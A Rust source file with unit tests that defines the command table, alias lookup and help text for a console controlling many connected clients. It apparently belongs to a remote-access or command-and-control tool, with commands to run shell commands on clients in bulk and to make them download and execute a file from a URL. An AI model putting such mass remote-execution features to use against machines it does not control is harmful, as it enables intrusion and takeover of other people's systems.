//! Console command table.

use std::collections::HashMap;

/// What a console command does; the console dispatches on this.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CommandKind {
    Help,
    Clear,
    Exit,
    List,
    Output,
    Ping,
    Run,
    Background,
    DownloadExecute,
    SystemInfo,
    Kick,
    Prune,
}

/// Static description of one console command.
#[derive(Debug, Clone, Copy)]
pub struct CommandSpec {
    pub name: &'static str,
    pub aliases: &'static [&'static str],
    /// Arguments required after the command word.
    pub min_args: usize,
    pub help: &'static str,
    pub usage: &'static str,
    pub kind: CommandKind,
}

impl CommandSpec {
    /// One help entry: name, aliases, help text and usage.
    #[must_use]
    pub fn description(&self) -> String {
        let mut text = self.name.to_string();
        if !self.aliases.is_empty() {
            text.push_str(&format!(" (aliases: {})", self.aliases.join(", ")));
        }
        text.push_str(": ");
        text.push_str(self.help);
        if !self.usage.is_empty() {
            text.push_str("\n    usage: ");
            text.push_str(self.usage);
        }
        text
    }

    fn words(&self) -> impl Iterator<Item = &'static str> {
        std::iter::once(self.name).chain(self.aliases.iter().copied())
    }
}

pub const COMMANDS: &[CommandSpec] = &[
    CommandSpec {
        name: "help",
        aliases: &["h", "?"],
        min_args: 0,
        help: "Prints help for all commands or a specified command",
        usage: "help [command]",
        kind: CommandKind::Help,
    },
    CommandSpec {
        name: "clear",
        aliases: &["c", "cl"],
        min_args: 0,
        help: "Clears the screen",
        usage: "",
        kind: CommandKind::Clear,
    },
    CommandSpec {
        name: "exit",
        aliases: &["quit"],
        min_args: 0,
        help: "Exits the console",
        usage: "",
        kind: CommandKind::Exit,
    },
    CommandSpec {
        name: "list",
        aliases: &["ls", "clients"],
        min_args: 0,
        help: "Lists known clients and whether they are connected",
        usage: "",
        kind: CommandKind::List,
    },
    CommandSpec {
        name: "output",
        aliases: &["history", "log"],
        min_args: 0,
        help: "Shows recent background output, optionally for one client",
        usage: "output [client]",
        kind: CommandKind::Output,
    },
    CommandSpec {
        name: "ping",
        aliases: &[],
        min_args: 1,
        help: "Measures the round trip to clients",
        usage: "ping <clients>",
        kind: CommandKind::Ping,
    },
    CommandSpec {
        name: "run",
        aliases: &["exec"],
        min_args: 2,
        help: "Runs a command on clients and waits for its output",
        usage: "run <clients> <command> [args...]",
        kind: CommandKind::Run,
    },
    CommandSpec {
        name: "bg",
        aliases: &["background"],
        min_args: 2,
        help: "Runs a command on clients without waiting; output is printed when it arrives",
        usage: "bg <clients> <command> [args...]",
        kind: CommandKind::Background,
    },
    CommandSpec {
        name: "dlexec",
        aliases: &["download"],
        min_args: 2,
        help: "Makes clients download a file and execute it",
        usage: "dlexec <clients> <url> [args...]",
        kind: CommandKind::DownloadExecute,
    },
    CommandSpec {
        name: "sysinfo",
        aliases: &["info"],
        min_args: 1,
        help: "Shows host and OS details of clients",
        usage: "sysinfo <clients>",
        kind: CommandKind::SystemInfo,
    },
    CommandSpec {
        name: "kick",
        aliases: &["disconnect"],
        min_args: 1,
        help: "Tells clients to shut down; they will not reconnect",
        usage: "kick <clients>",
        kind: CommandKind::Kick,
    },
    CommandSpec {
        name: "prune",
        aliases: &[],
        min_args: 0,
        help: "Forgets disconnected clients",
        usage: "",
        kind: CommandKind::Prune,
    },
];

/// Usage note for the `<clients>` argument, appended to full help.
const CAPTURE_HELP: &str =
    "<clients> is 'all', '*', an id, a range like 2-5, or a comma list of those";

#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum TableError {
    #[error("'{word}' is claimed by both '{first}' and '{second}'")]
    Collision {
        word: String,
        first: &'static str,
        second: &'static str,
    },
}

/// Lookup table over command names and aliases, case-insensitive.
#[derive(Debug)]
pub struct CommandTable {
    specs: Vec<CommandSpec>,
    index: HashMap<String, usize>,
}

impl CommandTable {
    /// Build a table, rejecting any name or alias used twice.
    ///
    /// # Errors
    /// Returns `Collision` naming the first clash found.
    pub fn new(specs: &[CommandSpec]) -> Result<Self, TableError> {
        let mut index = HashMap::new();
        for (i, spec) in specs.iter().enumerate() {
            for word in spec.words() {
                if let Some(&other) = index.get(&word.to_ascii_lowercase()) {
                    let other: &CommandSpec = &specs[other];
                    return Err(TableError::Collision {
                        word: word.to_string(),
                        first: other.name,
                        second: spec.name,
                    });
                }
                index.insert(word.to_ascii_lowercase(), i);
            }
        }
        Ok(Self {
            specs: specs.to_vec(),
            index,
        })
    }

    /// The console's built-in commands.
    ///
    /// # Errors
    /// Returns error if the built-in table has a collision.
    pub fn builtin() -> Result<Self, TableError> {
        Self::new(COMMANDS)
    }

    #[must_use]
    pub fn get(&self, word: &str) -> Option<&CommandSpec> {
        self.index
            .get(&word.to_ascii_lowercase())
            .map(|&i| &self.specs[i])
    }

    /// Help for one command, or for all of them.
    #[must_use]
    pub fn help(&self, topic: Option<&str>) -> String {
        if let Some(topic) = topic {
            return self
                .get(topic)
                .map_or_else(|| format!("Unknown command: {topic}"), CommandSpec::description);
        }
        let mut text = String::from("Available commands:\n");
        for spec in &self.specs {
            text.push_str(&spec.description());
            text.push('\n');
        }
        text.push_str(CAPTURE_HELP);
        text
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtin_table_is_consistent() {
        let table = CommandTable::builtin().unwrap();
        for spec in COMMANDS {
            assert_eq!(table.get(spec.name).unwrap().kind, spec.kind);
            for alias in spec.aliases {
                assert_eq!(table.get(alias).unwrap().name, spec.name);
            }
        }
    }

    #[test]
    fn lookup_ignores_case() {
        let table = CommandTable::builtin().unwrap();
        assert_eq!(table.get("QUIT").unwrap().kind, CommandKind::Exit);
        assert_eq!(table.get("Cl").unwrap().kind, CommandKind::Clear);
        assert!(table.get("launch").is_none());
    }

    #[test]
    fn colliding_alias_is_rejected() {
        let specs = [
            COMMANDS[0],
            CommandSpec {
                name: "hide",
                aliases: &["H"],
                min_args: 0,
                help: "",
                usage: "",
                kind: CommandKind::Clear,
            },
        ];
        assert_eq!(
            CommandTable::new(&specs).unwrap_err(),
            TableError::Collision {
                word: "H".to_string(),
                first: "help",
                second: "hide",
            }
        );
    }

    #[test]
    fn help_text() {
        let table = CommandTable::builtin().unwrap();
        let all = table.help(None);
        assert!(all.starts_with("Available commands:"));
        assert!(all.contains("exit (aliases: quit): Exits the console"));
        assert!(all.contains("<clients> is 'all'"));

        let one = table.help(Some("exec"));
        assert!(one.starts_with("run (aliases: exec)"));
        assert!(one.ends_with("usage: run <clients> <command> [args...]"));

        assert_eq!(table.help(Some("nope")), "Unknown command: nope");
    }
}
